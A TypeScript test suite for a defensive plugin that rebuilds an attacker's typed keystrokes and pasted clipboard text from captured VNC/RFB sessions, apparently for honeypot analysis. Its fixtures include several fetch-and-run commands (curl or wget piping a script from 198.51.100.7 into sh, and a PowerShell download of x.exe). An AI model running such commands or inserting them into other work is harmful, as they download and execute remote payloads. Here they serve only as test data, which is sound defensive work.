import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { parseRfbSession } from '../../src/plugins/decoders/rfb-keys.js'
import { createVncDownloadPlugin, VncDownloadOptions } from '../../src/plugins/decoders/vnc-download.js'
import { attackOf, runPlugin, subjectOf } from '../helpers/plugin-harness.js'

// Client-to-server messages, built byte by byte as RFC 6143 section 7.5 lays them out.
const SHIFT_L = 0xffe1
const CONTROL_L = 0xffe3
const SUPER_L = 0xffeb
const RETURN = 0xff0d
const BACKSPACE = 0xff08

function key(down: boolean, keysym: number): Buffer {
  const b = Buffer.alloc(8)
  b[0] = 4
  b[1] = down ? 1 : 0
  b.writeUInt32BE(keysym, 4)
  return b
}

function press(keysym: number): Buffer {
  return Buffer.concat([key(true, keysym), key(false, keysym)])
}

/** Types `text` as a US keyboard would: Shift around upper-case letters and shifted symbols. */
function typeText(text: string): Buffer {
  const parts: Buffer[] = []
  for (const ch of text) {
    const code = ch.codePointAt(0)!
    if (ch === '\n') parts.push(press(RETURN))
    else if (/[A-Z"~!@#$%^&*()_+{}|:<>?]/.test(ch)) parts.push(key(true, SHIFT_L), press(code), key(false, SHIFT_L))
    else parts.push(press(code > 0xff ? 0x01000000 + code : code))
  }
  return Buffer.concat(parts)
}

function setPixelFormat(): Buffer {
  const b = Buffer.alloc(20)
  Buffer.from([32, 24, 0, 1, 0, 255, 0, 255, 0, 255, 16, 8, 0]).copy(b, 4)
  return b
}

function setEncodings(encodings: readonly number[]): Buffer {
  const b = Buffer.alloc(4 + 4 * encodings.length)
  b[0] = 2
  b.writeUInt16BE(encodings.length, 2)
  encodings.forEach((e, i) => b.writeInt32BE(e, 4 + 4 * i))
  return b
}

function updateRequest(incremental: boolean): Buffer {
  return Buffer.from([3, incremental ? 1 : 0, 0, 0, 0, 0, 4, 0, 3, 0])
}

function pointer(x: number, y: number): Buffer {
  const b = Buffer.from([5, 1, 0, 0, 0, 0])
  b.writeUInt16BE(x, 2)
  b.writeUInt16BE(y, 4)
  return b
}

function cutText(text: string): Buffer {
  const body = Buffer.from(text, 'latin1')
  const b = Buffer.alloc(8)
  b[0] = 6
  b.writeUInt32BE(body.length, 4)
  return Buffer.concat([b, body])
}

const AUTH_RESPONSE = Buffer.from('9f3c01e27ab4d8c6115e0f2d3a4b5c6d', 'hex')

/** The client's handshake for each version: version line, security choice (3.7+), VNC auth response, ClientInit. */
const HANDSHAKES: Record<string, Buffer> = {
  '3.3 none': Buffer.concat([Buffer.from('RFB 003.003\n'), Buffer.from([1])]),
  '3.3 vnc-auth': Buffer.concat([Buffer.from('RFB 003.003\n'), AUTH_RESPONSE, Buffer.from([0])]),
  '3.7 none': Buffer.concat([Buffer.from('RFB 003.007\n'), Buffer.from([1, 1])]),
  '3.7 vnc-auth': Buffer.concat([Buffer.from('RFB 003.007\n'), Buffer.from([2]), AUTH_RESPONSE, Buffer.from([1])]),
  '3.8 none': Buffer.concat([Buffer.from('RFB 003.008\n'), Buffer.from([1, 0])]),
  '3.8 vnc-auth': Buffer.concat([Buffer.from('RFB 003.008\n'), Buffer.from([2]), AUTH_RESPONSE, Buffer.from([1])]),
}

const SETUP = Buffer.concat([setPixelFormat(), setEncodings([16, 6, 5, 1, 0, -239, -223]), updateRequest(false)])
const COMMAND = 'powershell -c "iwr http://198.51.100.7/x.exe -o x.exe"'

function vncAttack(payload: Buffer, port = 5900): ReturnType<typeof attackOf> {
  return attackOf(payload, { target: { address: '198.18.0.1', port } })
}

describe('parseRfbSession', () => {
  for (const [name, handshake] of Object.entries(HANDSHAKES)) {
    it(`rebuilds the typed command after a ${name} handshake`, () => {
      const data = Buffer.concat([handshake, SETUP, pointer(10, 20), typeText(COMMAND), press(RETURN), updateRequest(true)])
      const session = parseRfbSession(data)
      expect(session.typed).toBe(`${COMMAND}\n`)
      expect(session.version).toBe(`003.00${name[2]}`)
      expect(session.skippedBytes).toBe(0)
    })
  }

  it('applies BackSpace to the current line only', () => {
    const data = Buffer.concat([HANDSHAKES['3.8 none']!, typeText('ls\nwgte'), press(BACKSPACE), press(BACKSPACE), typeText('et'), press(BACKSPACE), press(BACKSPACE), press(BACKSPACE), press(BACKSPACE), press(BACKSPACE), press(BACKSPACE)])
    expect(parseRfbSession(data).typed).toBe('ls\n')
    const fixed = Buffer.concat([HANDSHAKES['3.8 none']!, typeText('wgte'), press(BACKSPACE), press(BACKSPACE), typeText('et x')])
    expect(parseRfbSession(fixed).typed).toBe('wget x')
  })

  it('resynchronises after garbage between messages', () => {
    const garbage = [
      Buffer.from('\xde\xad\xbe\xef GET / HTTP/1.1\r\n\x99', 'latin1'),
      Buffer.from([4, 7, 0, 0, 0x41, 0, 0, 0]), // a KeyEvent with an impossible down-flag
      Buffer.from([2, 0, 0xff, 0xff]), // SetEncodings announcing 65535 encodings
      Buffer.from([0xff, 9, 0x80]),
    ]
    const parts = [HANDSHAKES['3.8 vnc-auth']!, SETUP]
    const chars = [...'curl http://198.51.100.7/a.sh|sh']
    chars.forEach((ch, i) => parts.push(typeText(ch), garbage[i % garbage.length]!))
    const session = parseRfbSession(Buffer.concat(parts))
    expect(session.typed).toBe(chars.join(''))
    expect(session.skippedBytes).toBeGreaterThan(0)
  })

  it('keeps what came before a truncated message, and the start of a truncated cut text', () => {
    const whole = Buffer.concat([HANDSHAKES['3.8 none']!, typeText('echo hi'), key(true, 0x41)])
    expect(parseRfbSession(whole.subarray(0, whole.length - 3)).typed).toBe('echo hi')
    const paste = cutText('curl -s http://198.51.100.7/bot.sh | sh\n')
    const cut = Buffer.concat([HANDSHAKES['3.3 none']!, typeText('x'), paste]).subarray(0, -10)
    const session = parseRfbSession(cut)
    expect(session.typed).toBe('x')
    expect(session.clipboard).toEqual(['curl -s http://198.51.100.7/bo'])
  })

  it('opens a new line on Win+R and ignores Ctrl shortcuts and key-ups', () => {
    const data = Buffer.concat([
      HANDSHAKES['3.8 none']!,
      typeText('abc'),
      key(true, SUPER_L), press(0x72), key(false, SUPER_L),
      typeText('cmd'),
      key(true, CONTROL_L), press(0x63), key(false, CONTROL_L), // Ctrl+C
      key(false, 0x7a), // a key-up without its key-down
      press(RETURN),
      typeText('été'),
    ])
    expect(parseRfbSession(data).typed).toBe('abc\ncmd\nété')
  })

  it('collects cut texts and skips extended-clipboard (negative length) messages', () => {
    const extended = Buffer.from([6, 0, 0, 0, 0xff, 0xff, 0xff, 0xfc, 0, 0, 0, 1]) // length -4: 4 bytes of flags
    const data = Buffer.concat([HANDSHAKES['3.7 none']!, cutText('wget http://198.51.100.7/m'), extended, cutText('chmod +x m')])
    const session = parseRfbSession(data)
    expect(session.clipboard).toEqual(['wget http://198.51.100.7/m', 'chmod +x m'])
    expect(session.skippedBytes).toBe(0)
  })

  it('reads a stream without a version line by resynchronising', () => {
    const session = parseRfbSession(Buffer.concat([Buffer.from('\x01\x99\x42'), SETUP, typeText('id')]))
    expect(session.version).toBeNull()
    expect(session.typed).toBe('id')
  })

  it('never throws, and its output is bounded by its input', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 2048 }), fc.constantFrom(...Object.values(HANDSHAKES)), (bytes, handshake) => {
        for (const data of [Buffer.from(bytes), Buffer.concat([handshake, Buffer.from(bytes)])]) {
          const session = parseRfbSession(data)
          expect(session.keyEvents).toBeLessThanOrEqual(Math.floor(data.length / 8))
          expect([...session.typed].length).toBeLessThanOrEqual(session.keyEvents)
          expect(session.skippedBytes).toBeLessThanOrEqual(data.length)
          expect(session.clipboard.reduce((n, t) => n + t.length, 0)).toBeLessThanOrEqual(data.length)
        }
      }),
      { numRuns: 500 },
    )
  })

  it('recovers any printable ASCII text typed after any handshake', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)), maxLength: 200 }), fc.constantFrom(...Object.values(HANDSHAKES)), (text, handshake) => {
        expect(parseRfbSession(Buffer.concat([handshake, SETUP, typeText(text)])).typed).toBe(text)
      }),
      { numRuns: 300 },
    )
  })

  it('parses 8 MiB of message-like garbage in linear time', () => {
    const pattern = Buffer.from([4, 1, 0, 0, 0, 0, 0, 0x41, 6, 0, 0, 0, 0x7f, 0xff, 0xff, 0xff, 2, 0, 0, 9])
    const data = Buffer.alloc(8 * 1024 * 1024)
    for (let i = 0; i < data.length; i += pattern.length) pattern.copy(data, i)
    const started = performance.now()
    const session = parseRfbSession(data)
    expect(performance.now() - started).toBeLessThan(5_000)
    expect(session.skippedBytes).toBeGreaterThan(0)
  })
})

describe('vncDownload plugin', () => {
  const plugin = createVncDownloadPlugin(VncDownloadOptions.parse({}))

  it('hands the typed command to the downloaders and notes what it found', async () => {
    const data = Buffer.concat([HANDSHAKES['3.8 none']!, SETUP, typeText(COMMAND), press(RETURN)])
    const collected = await runPlugin(plugin, subjectOf(vncAttack(data)))
    expect(collected.payloads).toEqual([{ data: Buffer.from(`${COMMAND}\n`), origin: 'vncDownload:typed' }])
    expect(collected.artifacts).toEqual([
      { kind: 'note', info: { typedChars: COMMAND.length + 1, keyEvents: typeText(COMMAND).length / 8 + 2, lines: 1, clipboardTexts: 0, version: '003.008', skippedBytes: 0 } },
    ])
  })

  it('hands distinct pasted texts over as one clipboard payload, UTF-8 encoded', async () => {
    const data = Buffer.concat([HANDSHAKES['3.3 none']!, cutText('café'), cutText('café'), cutText('sh x')])
    const collected = await runPlugin(plugin, subjectOf(vncAttack(data, 5901)))
    expect(collected.payloads).toEqual([{ data: Buffer.from('café\nsh x', 'utf8'), origin: 'vncDownload:clipboard' }])
  })

  it('accepts attack strings on its ports or starting with an RFB version, and nothing else', () => {
    const rfb = Buffer.from('RFB 003.008\n')
    expect(plugin.accepts!(subjectOf(vncAttack(Buffer.from('x'), 5800)))).toBe(true)
    expect(plugin.accepts!(subjectOf(vncAttack(rfb, 443)))).toBe(true)
    expect(plugin.accepts!(subjectOf(vncAttack(Buffer.from('GET / HTTP/1.0\r\n'), 80)))).toBe(false)
    expect(plugin.accepts!(subjectOf(vncAttack(rfb), rfb, 'decoded'))).toBe(false)
    const custom = createVncDownloadPlugin(VncDownloadOptions.parse({ ports: [15900] }))
    expect(custom.accepts!(subjectOf(vncAttack(Buffer.from('x'), 15900)))).toBe(true)
    expect(custom.accepts!(subjectOf(vncAttack(Buffer.from('x'), 5900)))).toBe(false)
  })

  it('reports nothing for a session without key events or cut texts', async () => {
    const data = Buffer.concat([HANDSHAKES['3.8 none']!, SETUP, pointer(1, 1)])
    const collected = await runPlugin(plugin, subjectOf(vncAttack(data)))
    expect(collected.payloads).toEqual([])
    expect(collected.artifacts).toEqual([])
  })
})
